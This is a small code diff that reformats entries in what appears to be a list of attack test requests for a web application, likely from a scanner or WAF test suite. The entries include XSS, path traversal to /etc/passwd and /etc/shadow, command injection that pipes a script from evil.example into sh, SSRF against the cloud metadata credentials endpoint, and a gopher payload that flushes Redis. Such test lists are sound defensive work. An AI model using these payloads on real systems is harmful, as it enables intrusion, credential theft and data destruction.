@@ -59,9 +59,7 @@ CURLS = [
     Curl("xss", "/api/cart", form("note=<svg/onload=confirm`1`>")),
     Curl("ptrav", "/download?file=../../../../etc/passwd"),
     Curl("ptrav", "/download?file=..%252f..%252f..%252fetc%252fshadow"),
-    Curl(
-        "ptrav", "/download?file=php://filter/convert.base64-encode/resource=index.php"
-    ),
+    Curl("ptrav", "/download?file=php://filter/convert.base64-encode/resource=index.php"),
     Curl("ptrav", "/static/css/img/icons/..%2f..%2f..%2f..%2fetc%2fpasswd"),
     Curl("rce", "/api/ping?host=127.0.0.1;cat%20/etc/passwd"),
     Curl("rce", "/api/ping?host=$(curl%20http://evil.example/x.sh|sh)"),
@@ -81,9 +79,7 @@ CURLS = [
         "ssrf",
         "/api/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
     ),
-    Curl(
-        "ssrf", "/api/fetch", json_body('{"url": "gopher://127.0.0.1:6379/_FLUSHALL"}')
-    ),
+    Curl("ssrf", "/api/fetch", json_body('{"url": "gopher://127.0.0.1:6379/_FLUSHALL"}')),
     Curl(
         "nosqli",
         "/api/login",
